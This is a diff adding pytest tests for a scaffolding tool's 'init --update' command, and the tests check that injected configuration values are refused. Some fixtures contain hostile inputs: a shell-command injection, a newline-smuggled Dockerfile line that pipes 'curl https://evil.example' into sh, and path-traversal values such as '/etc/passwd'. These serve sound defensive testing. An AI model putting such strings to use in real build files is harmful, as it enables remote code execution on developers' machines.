@@ -163,6 +163,29 @@ def test_a_closed_pipe_does_not_stop_the_update(run_fdl, tmp_path):
         ('flodl_wheel = ""', 'flodl_wheel = "../x.whl"', "flodl_wheel = '../x.whl' must be"),
         ('"README.md" =', '".fdl/wheels/../../../x" =', "is not a path inside the project"),
         ('"README.md" =', '"/etc/passwd" =', "is not a path inside the project"),
+        # rendered into a Dockerfile RUN line, a Dockerfile.cuda comment, docker-compose.yml,
+        # constraints.txt: a hand-edited value must not add a command, an instruction, a line
+        (
+            'torch = ""',
+            """torch = '2.11.0"; touch /pwned; echo "'""",
+            "torch = '2.11.0\"; touch /pwned; echo \"' must be a torch release",
+        ),
+        ('torch = ""', 'torch = "2.11.0\\n"', "torch = '2.11.0\\n' must be one line"),
+        (
+            'cuda_reason = ""',
+            'cuda_reason = "x\\nRUN curl https://evil.example | sh"',
+            "cuda_reason = 'x\\nRUN curl https://evil.example | sh' must be one line",
+        ),
+        ('torch_reason = ""', 'torch_reason = "a\\rb"', "torch_reason = 'a\\rb' must be one"),
+        ('flodl_origin = ""', 'flodl_origin = "a\\u2028b"', "flodl_origin = 'a\\u2028b' must"),
+        (
+            'torch_pin = ""',
+            'torch_pin = "torch==2.13.0 --pre"',
+            "torch_pin = 'torch==2.13.0 --pre'",
+        ),
+        ('torch_index = ""', 'torch_index = "https://x y"', "torch_index = 'https://x y' must"),
+        ('name = "bad"', 'name = "bad\\n"', "name = 'bad\\n' must be one line"),
+        ('package = "bad"', 'package = "b-ad"', "package = 'b-ad' is not valid"),
     ],
 )
 def test_answers_fdl_could_not_have_written_are_refused(tmp_path, line, replacement, message):
@@ -189,3 +212,63 @@ def test_update_with_a_package_outside_the_project_writes_nothing(run_fdl, tmp_p
     assert result.returncode == 1
     assert ".fdl/project.toml: [answers] package = '../../evil' is not valid" in result.stderr
     assert set(tmp_path.parent.rglob("*")) == before
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("torch", """'2.11.0"; touch /pwned; echo "'"""),
+        ("cuda_reason", '"x\\nRUN curl https://evil.example | sh"'),
+    ],
+)
+def test_update_refuses_an_injected_answer_and_writes_nothing(run_fdl, tmp_path, key, value):
+    made = run_fdl("init", "boxed", "--docker", "--cuda", "12.6", cwd=tmp_path)
+    assert made.returncode == 0, made.stderr
+    root = tmp_path / "boxed"
+    path = root / answers_file.ANSWERS_PATH
+    lines = path.read_text().splitlines(keepends=True)
+    (at,) = [i for i, line in enumerate(lines) if line.startswith(f"{key} = ")]
+    lines[at] = f"{key} = {value}\n"
+    path.write_text("".join(lines))
+    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
+    result = run_fdl("init", "--update", cwd=root)
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert f".fdl/project.toml: [answers] {key} = " in result.stderr
+    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before
+    assert not Path("/pwned").exists()
+
+
+@pytest.mark.parametrize(("name", "package"), [("aux", "aux"), ("my-model-", "my_model_")])
+def test_projects_named_before_newer_naming_rules_still_update(tmp_path, name, package):
+    # `fdl init` now refuses Windows device names and a trailing '-' (and names over 64
+    # characters); a project an earlier fdl made with one must still update
+    root = tmp_path / name
+    create(root, Answers(name, package, torch_pin="torch==2.13.0+cpu"))
+    answers, _, recorded = answers_file.load(root)
+    assert (answers.name, answers.package) == (name, package)
+    changes = update.plan(root, answers, recorded)
+    assert {c.status for c in changes} == {"unchanged"}
+
+
+def test_cli_update_of_a_project_named_aux(run_fdl, tmp_path):
+    root = tmp_path / "aux"
+    create(root, Answers("aux", "aux"))
+    result = run_fdl("init", "--update", cwd=root)
+    assert result.returncode == 0, result.stderr
+
+
+def test_a_bundled_wheel_to_create_is_one_line_not_an_empty_diff(run_fdl, tmp_path):
+    assert run_fdl("init", "wheeled", "--native", cwd=tmp_path).returncode == 0
+    root = tmp_path / "wheeled"
+    wheels = list((root / ".fdl" / "wheels").glob("*.whl"))
+    if not wheels:
+        pytest.skip("flodl comes from a package index here: no wheel is bundled")
+    (wheel,) = wheels
+    wheel.unlink()
+    result = run_fdl("init", "--update", "--dry-run", cwd=root)
+    assert result.returncode == 0, result.stderr
+    assert f"create    .fdl/wheels/{wheel.name}" in result.stderr
+    (line,) = result.stdout.splitlines()  # one line, no empty diff
+    assert line.startswith(f"Binary file b/.fdl/wheels/{wheel.name} (create, ") and line.endswith(
+        " bytes)"
+    )
